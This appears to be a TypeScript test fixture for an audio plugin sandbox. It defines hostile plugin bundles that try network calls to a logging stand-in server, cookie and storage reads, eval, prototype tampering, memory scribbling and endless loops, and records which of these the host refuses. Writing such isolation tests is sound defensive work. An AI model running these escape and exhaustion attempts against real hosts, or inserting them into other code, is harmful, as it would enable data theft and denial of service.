/**
 * What a hostile processor tries when its bundle is loaded, as expressions of JavaScript by name. One that gives a value
 * got something; one that throws was refused. SITE stands for a server that writes down whoever comes.
 */
export const ATTEMPTS_AT_LOAD: Readonly<Record<string, string>> = {
  "fetch": `fetch("SITEfetch")`,
  "XMLHttpRequest": `new XMLHttpRequest()`,
  "WebSocket": `new WebSocket("SITEws".replace("http", "ws"))`,
  "EventSource": `new EventSource("SITEevents")`,
  "sendBeacon": `navigator.sendBeacon("SITEbeacon")`,
  "WebRTC": `new RTCPeerConnection()`,
  "WebTransport": `new WebTransport("https://localhost/")`,
  "import of an address": `await import("SITEmodule.js")`,
  "import of this site": `await import("/packages/engine/dist/index.js")`,
  "import of data": `await import("data:text/javascript,export default 1")`,
  "importScripts": `importScripts("SITEscript.js")`,
  "Worker": `new Worker("SITEworker.js")`,
  "SharedWorker": `new SharedWorker("/x.js")`,
  "worker from memory": `new Worker(URL.createObjectURL(new Blob([""])))`,
  "IndexedDB": `indexedDB.open("headroom-presets")`,
  "Cache": `await caches.keys()`,
  "private files": `await navigator.storage.getDirectory()`,
  "localStorage": `localStorage.length`,
  "cookies": `await cookieStore.getAll()`,
  "BroadcastChannel": `new BroadcastChannel("headroom-presets")`,
  "postMessage": `postMessage("hello")`,
  "MessageChannel": `new MessageChannel()`,
  "listeners": `addEventListener("message", () => {})`,
  "EventTarget by the scope's prototype": `Object.getPrototypeOf(globalThis).addEventListener.name`,
  "the scope's constructor": `Object.getPrototypeOf(globalThis).constructor === Object ? missing : 1`,
  "parent": `parent.document`,
  "opener": `opener.document`,
  "location": `location.href`,
  "close": `close()`,
  "timers": `setTimeout("1")`,
  "eval": `(0, eval)("1")`,
  "Function": `new Function("return 1")()`,
  "AsyncFunction": `await Object.getPrototypeOf(async () => {}).constructor("return 1")()`,
  "Atomics.load replaced": `Atomics.load = () => 0`,
  "Array.prototype.map replaced": `Array.prototype.map = () => []`,
  "Object.assign replaced": `Object.assign = () => ({})`,
  "Promise.prototype.then replaced": `Promise.prototype.then = () => {}`,
  "Function.prototype.call replaced": `Function.prototype.call = () => {}`,
  "Float32Array.prototype.set replaced": `Object.getPrototypeOf(Float32Array.prototype).set = () => {}`,
  "Float32Array.prototype.set shadowed": `Float32Array.prototype.set = () => {}`,
  "the memory behind subarray": `Float32Array.prototype.constructor = class extends Float32Array {}`,
  "the memory behind subarray, for all": `Object.getPrototypeOf(Float32Array.prototype).constructor = class extends Float32Array {}`,
  "iteration replaced": `Object.getPrototypeOf([][Symbol.iterator]()).next = () => ({ done: true })`,
  "Int32Array replaced": `globalThis.Int32Array = class {}`,
  "a setter for every object": `Object.defineProperty(Object.prototype, "argumentList", { set() {}, configurable: true })`,
};

export const HOSTILE = "test.headroom.hostile";

const STATEMENT = `id: "${HOSTILE}", name: "Hostile", vendor: "Headroom tests", version: "1.0.0", features: ["utility"], params: {}, readouts: {}`;

/** A bundle that tries everything, and states what became of it as the names of its presets. */
export const TRYING_BUNDLE = `"use strict";
const results = [];
const tries = { ${Object.entries(ATTEMPTS_AT_LOAD).map(([name, code]) => `${JSON.stringify(name)}: async () => (${code})`).join(",\n")} };
for (const [name, go] of Object.entries(tries)) {
  try { await go(); results.push(name + ": got"); } catch { results.push(name + ": refused"); }
}
export default { ${STATEMENT}, presets: results.map((name) => ({ name, values: {} })), processor: () => ({ process() {} }) };`;

/** A bundle that writes over all the memory it is given, beyond what it is given of it, at every block. */
export const SCRIBBLING_BUNDLE = `export default { ${STATEMENT}, processor: () => ({
  process({ input, output, frames }) {
    for (const channel of [...input, ...output]) {
      new Int32Array(channel.buffer).fill(0x7fffffff);
      new Float32Array(channel.buffer).fill(0.001);
    }
  },
}) };`;

/** Bundles that go wrong by what they state or do, by name. Statements are evaluated in the plugin's worker. */
export const WRONG_BUNDLES: Readonly<Record<string, string>> = {
  "an endless loop when it is made": `export default { ${STATEMENT}, processor: () => { for (;;); } };`,
  "a getter that throws": `export default { ${STATEMENT}, get presets() { throw new Error("got you"); }, processor: () => ({ process() {} }) };`,
  "a getter that never returns": `export default { ${STATEMENT}, get presets() { for (;;); }, processor: () => ({ process() {} }) };`,
  "a proxy for parameters": `export default { ${STATEMENT}, params: new Proxy({}, { ownKeys() { throw new Error("trap"); } }), processor: () => ({ process() {} }) };`,
  "a thenable": `export default { ${STATEMENT}, then(resolve) { resolve({}); }, presets: { then() {} }, processor: () => ({ process() {} }) };`,
  "functions among the data": `export default { ${STATEMENT}, presets: [{ name: "a", values: { run() {} } }], processor: () => ({ process() {} }) };`,
  "a huge statement": `export default { ${STATEMENT}, presets: [{ name: "a", values: { text: "x".repeat(2 ** 25) } }], processor: () => ({ process() {} }) };`,
  "a circle": `const values = {}; values.values = values; export default { ${STATEMENT}, presets: [{ name: "a", values }], processor: () => ({ process() {} }) };`,
  "too many parameters": `export default { ${STATEMENT}, params: Object.fromEntries(Array.from({ length: 100000 }, (_, i) => ["p" + i, { kind: "toggle", default: false }])), processor: () => ({ process() {} }) };`,
  "readouts of gigabytes": `export default { ${STATEMENT}, readouts: Object.fromEntries(Array.from({ length: 4000 }, (_, i) => ["r" + i, { kind: "series", unit: "dB", length: 65536 }])), processor: () => ({ process() {} }) };`,
  "an own __proto__": `export default { ${STATEMENT}, params: JSON.parse('{"__proto__": {"kind": "toggle", "default": false}}'), processor: () => ({ process() {} }) };`,
  "more memory than there is": `const all = []; for (;;) all.push(new ArrayBuffer(2 ** 46));`,
};
